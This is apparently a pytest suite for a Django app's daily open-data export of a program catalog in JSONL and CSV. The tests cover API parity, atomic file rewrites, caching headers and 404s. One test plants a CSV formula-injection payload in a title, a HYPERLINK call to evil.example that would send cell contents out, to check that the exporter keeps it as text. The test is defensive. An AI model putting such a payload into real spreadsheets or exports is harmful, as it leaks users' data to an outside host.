"""The daily bulk extract (/data/programs.jsonl and .csv) of the published real catalog."""

import csv
import io
import json

import pytest
from django.core.files.storage import default_storage
from django.test import override_settings

from tests.factories import make_programs
from tracker import tasks
from tracker.interchange import open_data
from tracker.models import Program

SLUG = "guangxi-pilot-base-2025"


@pytest.fixture
def media(tmp_path):
    with override_settings(MEDIA_ROOT=tmp_path):
        yield tmp_path


def api_records(client):
    response = client.get("/api/v1/programs", {"status": "all", "limit": 100})
    return {row["slug"]: row for row in response.json()["results"]}


def test_the_extract_matches_the_api(client, media, pilot_base, demo_catalog, call_open):
    make_programs(12, sectors=2)
    Program.objects.filter(slug="bench-program-3").update(is_published=False)

    assert tasks.write_open_data() == 12
    lines = client.get("/data/programs.jsonl")
    table = client.get("/data/programs.csv")

    records = [json.loads(line) for line in b"".join(lines.streaming_content).splitlines()]
    assert {r["slug"]: r for r in records} == api_records(client)
    assert len(records) == 12 and list(records[0]) == list(open_data.FIELDS)
    text = b"".join(table.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")
    header, *rows = list(csv.reader(io.StringIO(text[1:])))
    assert header == list(open_data.FIELDS)
    assert rows == [[str(cell) for cell in open_data.csv_row(r)] for r in records]


def test_a_title_that_is_a_formula_stays_text_in_the_csv(client, media, pilot_base):
    pilot_base.title_zh = '=HYPERLINK("http://evil.example/?d="&A1,"点击")'
    pilot_base.save()
    open_data.write_extract()

    text = b"".join(client.get("/data/programs.csv").streaming_content).decode("utf-8-sig")

    [row] = list(csv.DictReader(io.StringIO(text)))
    assert row["title_zh"].startswith("HYPERLINK(")


def test_a_rewrite_replaces_the_file_whole_and_leaves_no_temporary_one(client, media, pilot_base):
    open_data.write_extract()
    pilot_base.title_zh = "改过的标题"
    pilot_base.save()
    open_data.write_extract()

    assert sorted(p.name for p in (media / "open-data").iterdir()) == [
        "programs.csv", "programs.jsonl"
    ]
    body = b"".join(client.get("/data/programs.jsonl").streaming_content).decode()
    assert "改过的标题" in body and body.count("\n") == 1


def test_a_download_has_last_modified_and_answers_if_modified_since(client, media, pilot_base):
    open_data.write_extract()
    first = client.get("/data/programs.csv")

    again = client.get("/data/programs.csv", HTTP_IF_MODIFIED_SINCE=first["Last-Modified"])

    assert first["Last-Modified"] and again.status_code == 304


def test_before_the_first_extract_the_download_is_a_404(client, media, db):
    assert not default_storage.exists(open_data.EXTRACT_NAMES["jsonl"])
    assert client.get("/data/programs.jsonl").status_code == 404
